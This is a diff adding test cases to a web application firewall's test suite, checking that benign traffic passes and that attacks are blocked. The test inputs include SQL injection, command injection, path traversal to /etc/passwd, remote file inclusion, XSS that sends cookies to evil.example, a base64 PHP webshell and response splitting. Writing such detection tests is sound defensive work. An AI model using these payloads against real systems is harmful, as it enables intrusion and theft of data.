@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import gzip
 import json
+from urllib.parse import quote
 
 from waf import Request, inspect
 
@@ -107,6 +108,158 @@ def test_urls_with_empty_parameters_and_opaque_tokens_pass():
     assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked
 
 
+def test_session_ids_in_websocket_handshakes_same_site_links_and_iframes_pass():
+    ws = {"User-Agent": UA, "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
+          "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Origin": "https://player.example"}  # fmt: skip
+    assert passes(Request.make("GET", "/socket.io/?sessionid=Qx81-kd_3aL&EIO=4&transport=websocket", ws))
+    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
+    assert passes(Request.make("GET", "/s?session_id=7731&f=all", {**nav, "Sec-Fetch-Site": "same-site"}))
+    widget = {**nav, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe"}
+    assert passes(Request.make("GET", "/embed?sessionId=3f9a-1c2e&mode=CHAT", widget))
+    legacy = {"Host": "shop.example", "Referer": "https://shop.example/cart"}
+    assert passes(Request.make("GET", "/checkout?jsessionid=A81F", legacy))
+    # fixation: a link on another site or opened from outside the browser (a mail), or no Fetch Metadata
+    for site in ("cross-site", "none"):
+        assert inspect(Request.make("GET", "/login?PHPSESSID=attacker1", {**nav, "Sec-Fetch-Site": site})).blocked
+    assert inspect(Request.make("GET", "/login?jsessionid=A81F", {"Host": "shop.example", "Referer": "https://evil.example/"})).blocked
+    assert inspect(Request.make("GET", "/login?jsessionid=A81F", {"Host": "shop.example"})).blocked
+
+
+def test_graphql_documents_are_read_as_graphql():
+    doc = ("query Feed($first: Int, $loggedIn: Boolean!) {\n  feed(first: $first) {\n    id\n"
+           "    ...FeedPost @include(if: $loggedIn)\n    bookmarked @skip(if: $anonymous)\n  }\n}\n"
+           'fragment FeedPost on Post { title search(q: "eval and exec") }')  # fmt: skip
+    assert passes(Request.make("POST", "/graphql", XHR, json.dumps({"query": doc, "variables": {"first": 10}})))
+    # an injection in a string literal of the document, or a `query` field that is no GraphQL, is seen
+    hostile = '{ user(name: "x\' or 1=1--") { id } }'
+    assert inspect(Request.make("POST", "/graphql", XHR, json.dumps({"query": hostile}))).blocked
+    assert inspect(Request.make("POST", "/api", XHR, json.dumps({"query": "@include($_GET['f'])"}))).blocked
+    assert inspect(Request.make("POST", "/graphql", XHR, json.dumps({"query": "{ a }", "variables": {"n": "' or 1=1--"}}))).blocked
+
+
+def test_sql_typed_as_search_text_passes():
+    from urllib.parse import quote
+
+    searches = ["select 1 from a", "SELECT * FROM orders WHERE orders.code = 'c-77' LIMIT 1;",
+                "union select 关键字怎么用", "how to use the SELECT INTO OUTFILE S3 statement to export a table",
+                "sql注入的“or 1=1，or 1=2”是什么意思？"]  # fmt: skip
+    for text in searches:
+        assert passes(Request.make("GET", "/search?q=" + quote(text), {"User-Agent": UA})), text
+    # the same box carrying an injection: a closed string, a cut or a stacked statement, a tautology
+    for attack in ("x' or 'a'='a", "select * from users--", "1; drop table orders", "1or1=1", "' union select 1,2--"):
+        assert inspect(Request.make("GET", "/search?q=" + quote(attack))).blocked, attack
+
+
+def test_search_dsls_code_and_keyword_named_json_keys_pass():
+    from urllib.parse import quote
+
+    dsl = 'title="sql" && product="wordpress" || author=="CT Stack"'
+    ref = {"User-Agent": UA, "Referer": "https://app.example/poc?search=" + quote(quote(dsl))}
+    assert passes(Request.make("GET", "/api/unread", ref))
+    beacon = {"d": "ac=tl&key=seo_union&val=" + quote(json.dumps({"type": "pc", "union": "u1", "order": 2}))}
+    assert passes(Request.make("POST", "/collect", XHR, json.dumps(beacon)))
+    code = "w < 1420 ? $('#box_4f')&& (shown = true) : $('#box_9c')&& (shown = false)"
+    assert passes(Request.make("POST", "/ad/log", XHR, json.dumps([quote(json.dumps({"snippet": code}))])))
+    assert inspect(Request.make("GET", "/api/unread", {"Referer": "https://app.example/?q=" + quote("x\" && 1=1 --")})).blocked
+    assert inspect(Request.make("POST", "/collect", XHR, json.dumps({"d": "x' union select null,version()--"}))).blocked
+
+
+# --- command injection and traversal (waf/_shell.py, waf/_traversal.py) ----------------------------------
+
+
+def test_prose_lists_and_text_tables_with_separators_pass():
+    # an article pasted into a search box: pipes of a text table, `mysql>` prompts, semicolons in prose
+    article = ("Export data from MySQL | on 15 JUN | in Databases | Permalink | Field | Type | Null | Key | "
+               "Run the following code: mysql> create user demo@% identified by password; mysql> grant all")  # fmt: skip
+    assert passes(Request.make("GET", "/search?q=" + quote(article), {"User-Agent": UA}))
+    tags = json.dumps({"nav": [{"title": "", "text": "frontend;backend;mobile;languages;java;"}]})
+    assert passes(Request.make("POST", "/action", XHR, tags))
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    assert passes(Request.make("POST", "/talk", form, "note=" + quote("is not technical;in nature will be removed.;history;")))
+    assert inspect(Request.make("GET", "/search?q=" + quote("127.0.0.1; cat /etc/passwd"))).blocked
+    assert inspect(Request.make("GET", "/search?q=" + quote("x & net user"))).blocked
+    assert inspect(Request.make("POST", "/action", XHR, json.dumps({"text": "a;sh -c id"}))).blocked
+
+
+def test_random_bot_sensor_blobs_pass():
+    import random  # noqa: PLC0415
+    import string  # noqa: PLC0415
+
+    rng = random.Random(7)
+    blob = "".join(rng.choice(string.ascii_letters + string.digits + string.punctuation + " ") for _ in range(2500))
+    blob = blob[:300] + ">(6}|y~kg" + blob[300:900] + "j$VAn${r%Q" + blob[900:1500] + "|nc>ol%<<<<x" + blob[1500:]
+    v = inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": blob})))
+    assert not [m for m in v.matches if m.category in ("rce", "lfi", "rfi")]
+    assert inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": "$(whoami)"}))).blocked
+    assert inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": blob + ";cat /etc/passwd"}))).blocked
+
+
+def test_url_path_templates_in_rum_beacons_pass():
+    line = "resource,app=web resource_url_path_group=/res/style/e/?/mini_close.png,resource_url_path=/api/*/users"
+    assert passes(Request.make("POST", "/write/rum", {**XHR, "Content-Type": "text/plain"}, line))
+    assert inspect(Request.make("GET", "/x?c=" + quote("/???/??t /???/p??s??"))).blocked
+
+
+def test_escaped_json_and_opaque_tokens_in_form_fields_pass():
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    theme = '{"name":"customTheme","value":"{\\n\\t\\"type\\": \\"dark\\",\\n\\t\\"colors\\": {\\n\\t\\t\\"groups\\": 1}}"}'
+    assert passes(Request.make("POST", "/", form, "e=" + quote(theme)))
+    token = "e3WlSA4$s6S9Yxc9Wvc4p20knoWKkO$KdVJO2esTtb2ptb5nW$peQtYFpd$BGIhICq9X -"
+    assert passes(Request.make("POST", "/challenge", form, "v_7e0e=" + quote(token)))
+    assert inspect(Request.make("POST", "/", form, "e=" + quote("w'h'o'am'i"))).blocked
+    assert inspect(Request.make("POST", "/", form, "e=" + quote("c${u}url http://198.51.100.2/x"))).blocked
+
+
+def test_display_urls_and_code_with_dot_dot_pass():
+    results = json.dumps([{"dispUrl": "blog.example.com/someone/article/details/...", "title": "WAF"}])
+    assert passes(Request.make("POST", "/recommend", XHR, results))
+    poc = {"code": "name: poc\r\nrules:\r\n  r0:\r\n    request:\r\n      path: /app/x.dll?page=../../AutoCE.ini\r\n"}
+    assert passes(Request.make("POST", "/poc/create", XHR, json.dumps(poc)))
+    code = {"source": "import { a } from '../../lib/a';\nimport b from '../../../b';\n"}
+    assert passes(Request.make("POST", "/snippets", XHR, json.dumps(code)))
+    assert inspect(Request.make("POST", "/recommend", XHR, json.dumps({"dispUrl": "../../../../etc/passwd"}))).blocked
+    assert inspect(Request.make("POST", "/poc/create", XHR, json.dumps({"code": "a\npath: ../../../etc/shadow"}))).blocked
+
+
+def test_home_folder_segment_passes():
+    assert passes(Request.make("GET", "/api/resource/v1/folders/~?sortType=updateDate", {"User-Agent": UA}))
+    assert inspect(Request.make("GET", "/index.php~")).blocked
+
+
+def test_file_urls_and_empty_queries_in_telemetry_pass():
+    rum = json.dumps({"resources": [{"n": "file:///"}, {"n": "file:///C:/Users/me/page.html"},
+                                    {"n": "https://app.example.com/cdn-cgi/rum?"}], "page_url": "https://app.example.com/?"})  # fmt: skip
+    assert passes(Request.make("POST", "/cdn-cgi/rum", XHR, rum))
+    assert inspect(Request.make("GET", "/show?src=file:///etc/passwd")).blocked
+    assert inspect(Request.make("GET", "/show?page=https://evil.example/shell?")).blocked
+    assert inspect(Request.make("POST", "/show", XHR, json.dumps({"page": "http://evil.example/shell.txt?"}))).blocked
+
+
+def test_html_documents_in_form_fields_and_json_values_pass():
+    """Code playgrounds and page builders post whole HTML documents: blank lines between their tags are
+    no response splitting (a second response starts after an empty line that no markup precedes)."""
+    doc = "<!DOCTYPE html>\r\n<html lang=\"en\">\r\n\r\n<head>\r\n  <title>Demo</title>\r\n</head>\r\n\r\n<body>\r\n  <div id=\"root\"></div>\r\n</body>\r\n</html>\r\n"
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Mode": "navigate"}
+    from urllib.parse import quote_plus
+
+    assert passes(Request.make("POST", "/run?file=demo.tsx", form, "project%5Bfiles%5D%5Bindex.html%5D=" + quote_plus(doc)))
+    assert passes(Request.make("POST", "/store", XHR, json.dumps({"data": {"files": [{"content": doc.replace("\r\n", "\n")}]}})))
+    # splitting: a value ending the headers and starting a body of its own
+    assert inspect(Request.make("POST", "/r", form, "lang=en%0D%0A%0D%0A%3Chtml%3E%3Cbody%3Epwned")).blocked
+    assert inspect(Request.make("POST", "/r", XHR, json.dumps({"lang": "en\r\n\r\n<html><body>pwned"}))).blocked
+
+
+def test_text_posted_as_a_form_body_by_a_script_passes():
+    """A page's script posting text with a form Content-Type: the parser splits the text at `&` and
+    `=`, so "names" are multi-line fragments of it."""
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded;charset=UTF-8"}
+    text = "Items per page\r\n  default: 20\r\n  max: 100\r\nSort order\r\n  default=asc"
+    assert passes(Request.make("POST", "/fcf.html?a=1", form, text))
+    # CR/LF in a parameter name of a URL, or in the path
+    assert inspect(Request.make("GET", "/get?parameter%0d%0a=test", {"User-Agent": UA})).blocked
+    assert inspect(Request.make("GET", "/foo%0abar", {"User-Agent": UA})).blocked
+
+
 def test_javascript_function_sources_in_telemetry_pass():
     # a page's own script logging the source of its handlers (fn.toString()) with an event
     fn = 'function(e){try{render(document.querySelector("div[".concat(k,"]")))}catch(err){}}'
@@ -114,7 +267,7 @@ def test_javascript_function_sources_in_telemetry_pass():
     assert passes(Request.make("POST", "/logstores/track", XHR, json.dumps(logs)))
     # the same field carrying code that runs: a quote breakout, an invoked function literal
     assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": "';alert(document.cookie)//"}))).blocked
-    iife = "(function(){document.location='//evil.example/?'+document.cookie})()"
+    iife = "x');(function(){document.location='//evil.example/?'+document.cookie})()//"
     assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": iife}))).blocked
 
 
@@ -143,3 +296,111 @@ def test_session_replay_tag_names_and_inert_link_targets_pass():
     for attack in ("<iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                    "javascript:void 0;alert(1)"):  # fmt: skip
         assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked
+
+
+def test_quoted_file_names_in_search_and_data_urls_as_paths_pass():
+    # a search box's text with quotes inside a word that names a file, not a command
+    assert passes(Request.make("GET", "/complete/search?client=chrome&q=" + quote("pass'w'd"), {"User-Agent": UA}))
+    # a broken `src` requested as a relative path: a data: URL's `;base64` is a MIME parameter
+    assert passes(Request.make("GET", "/data:;base64,=", {"User-Agent": UA}))
+    assert inspect(Request.make("GET", "/complete/search?q=" + quote("w'h'o'am'i"))).blocked
+    assert inspect(Request.make("GET", "/data:;cat%20%2Fetc%2Fpasswd")).blocked
+
+
+def test_upstream_addresses_in_admin_json_configs_pass_the_rfi_rules():
+    site = json.dumps({"name": "shop", "upstreams": ["http://127.0.0.1", "http://10.0.0.5:9200/"], "tls": False})
+    v = inspect(Request.make("PUT", "/api/Website", XHR, site))
+    assert not [m for m in v.matches if m.category == "rfi"]
+    assert inspect(Request.make("PUT", "/api/Website", XHR, json.dumps({"tpl": "http://198.51.100.7/shell.txt?"}))).blocked
+    assert inspect(Request.make("GET", "/index.php?page=http://198.51.100.7")).blocked
+
+
+def test_rich_text_html_with_media_and_icons_passes():
+    post = ('<p>Release notes</p><p><img src="https://cdn.example.com/u/42/shot.png" alt="screenshot" width="640"></p>'
+            '<video src="https://media.example.com/demo.mp4" controls poster="https://media.example.com/demo.jpg"></video>'
+            '<p><svg class="icon" viewBox="0 0 24 24"><use href="#icon-check"></use></svg> done</p>'
+            '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="></p>')  # fmt: skip
+    assert passes(Request.make("POST", "/api/posts", XHR, json.dumps({"title": "v2", "content": post})))
+    form = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Content-Type": "application/x-www-form-urlencoded"}
+    from urllib.parse import urlencode
+
+    assert passes(Request.make("POST", "/comment", form, urlencode({"body": post})))
+    for attack in ('<video src=x onerror="alert(1)">', '<svg><set attributeName=href to="javascript:alert(1)">',
+                   '<img src=x onerror=alert(document.domain)>'):  # fmt: skip
+        assert inspect(Request.make("POST", "/comment", form, urlencode({"body": attack}))).blocked
+
+
+def test_source_snippets_in_error_reports_pass():
+    # an error tracker's event: the lines of source around the failing one, sent by the page's script
+    event = {"exception": {"values": [{"type": "TypeError", "stacktrace": {"frames": [{
+        "filename": "https://app.example.com/static/js/main.3f2a9c.js", "function": "render", "lineno": 41,
+        "pre_context": ["  const el = document.getElementById('out');", "  if (!el) return;"],
+        "context_line": "  el.innerHTML = template(data); document.title = data.title;",
+        "post_context": ["  setTimeout(refresh, 5000);", "}"]}]}}]}}  # fmt: skip
+    assert passes(Request.make("POST", "/api/42/store/", XHR, json.dumps(event)))
+    # the same sink behind a breakout in a JSON value; and run as it is in a link a victim follows
+    assert inspect(Request.make("POST", "/api/42/store/", XHR, json.dumps({"message": "x';document.location='//e/'+document.cookie//"}))).blocked
+    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
+    assert inspect(Request.make("GET", "/search?q=document.getElementById('out').innerHTML%3Dlocation.hash", nav)).blocked
+    assert inspect(Request.make("GET", "/search?cb=alert(document.domain)", nav)).blocked
+
+
+def test_inline_images_and_cidr_blocks_pass():
+    """Session-replay beacons carry screenshots as `data:image/png;base64,...`; cloud consoles post
+    security-group rules with CIDR blocks (`0.0.0.0/0`)."""
+    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+    replay = json.dumps({"Evts": [{"Kind": 2, "Args": [7, "img", {"src": png}]}]})
+    assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, replay))
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    rules = json.dumps([{"IpProtocol": "tcp", "PortRange": "443/443", "SourceCidrIp": "0.0.0.0/0"}])
+    from urllib.parse import quote_plus
+
+    assert passes(Request.make("POST", "/sg/permissions.json", form, "authorizePermissions=" + quote_plus(rules)))
+    # the same shapes as attacks: PHP code labelled as an image, an internal address as a URL
+    php = "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="
+    assert inspect(Request.make("GET", "/view?file=" + quote_plus(php), {"User-Agent": UA})).blocked
+    assert inspect(Request.make("GET", "/fetch?url=127.0.0.1/admin", {"User-Agent": UA})).blocked
+
+
+def test_html_email_templates_with_style_blocks_pass():
+    email = ("<html><head><style>@media (max-width:600px){.col{width:100%!important}}"
+             "@font-face{font-family:Brand;src:url(https://cdn.example.com/brand.woff2)}"
+             ".hero{background:url(https://cdn.example.com/hero.jpg) no-repeat}</style></head>"
+             "<body><table class=\"col\"><tr><td>Hello {{first_name}}</td></tr></table></body></html>")  # fmt: skip
+    assert passes(Request.make("POST", "/api/campaigns/7/template", XHR, json.dumps({"html": email})))
+    for attack in ("<style>@import'//evil.example/x.css';</style>", "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>"):
+        assert inspect(Request.make("POST", "/api/campaigns/7/template", XHR, json.dumps({"html": attack}))).blocked
+
+
+def test_stack_frames_named_like_php_functions_and_java_type_arguments_pass():
+    stack = ("Error: logout (event)\n    at u (https://console.example.com/:307:12811)\n"
+             "    at a.seajs.cb.exec (https://cdn.example.com/dest/platform.f6e3d4.js?max_age=31536000:1:252999)\n"
+             "    at eval (eval at run (https://cdn.example.com/app.js:1:2), <anonymous>:1:1)")  # fmt: skip
+    assert passes(Request.make("POST", "/event?e=cgi-error", {**XHR, "Content-Type": "text/plain"}, json.dumps([{"stack": stack}])))
+    err = "JSON parse error: Cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>` out of START_OBJECT"
+    assert passes(Request.make("POST", "/collect", XHR, json.dumps({"error": err})))
+    assert inspect(Request.make("POST", "/event", XHR, json.dumps([{"stack": stack + "\n" + "system('id')"}]))).blocked
+    assert inspect(Request.make("POST", "/collect", XHR, json.dumps({"type": "java.lang.Integer"}))).blocked
+
+
+def test_markdown_pipe_tables_command_lines_and_code_in_values_pass():
+    note = ("| rule | what | blocked |\n|---|---|---:|\n| 210102 | sqli: UNION SELECT | 58 |\n\n"
+            "Run it with `--format cilium`; the commands `show w' and `show c' print the terms.\n"
+            "```\n$ tool --dry-run -- -----BEGIN CERTIFICATE-----\n```")  # fmt: skip
+    code = "if (x) {\n  supportsView && hasTag(new View(8));\n}\nconsole.log(\"### ready\", argv.indexOf(\"--\"));"
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    from urllib.parse import quote_plus
+
+    assert passes(Request.make("POST", "/notes", form, "body=" + quote_plus(note)))
+    assert passes(Request.make("POST", "/snippets", XHR, json.dumps({"code": code, "lang": "js"})))
+    # the same fields carrying injections
+    assert inspect(Request.make("POST", "/notes", form, "body=" + quote_plus("x' union select password from users--"))).blocked
+    assert inspect(Request.make("POST", "/snippets", XHR, json.dumps({"code": "1 and sleep(5)"}))).blocked
+
+
+def test_settings_text_shaped_like_event_handlers_passes():
+    prefs = {"filters": "onsale=1&instock=1", "status": "online=yes", "flags": "mode=dark; onboarding=done"}
+    assert passes(Request.make("POST", "/api/prefs", XHR, json.dumps(prefs)))
+    assert passes(Request.make("GET", "/shop?f=onsale%3D1", {"User-Agent": UA, "Sec-Fetch-Mode": "navigate"}))
+    for attack in ('" onmouseover="alert(document.domain)', "x' onfocus=location=name autofocus '"):
+        assert inspect(Request.make("POST", "/api/prefs", XHR, json.dumps({"status": attack}))).blocked
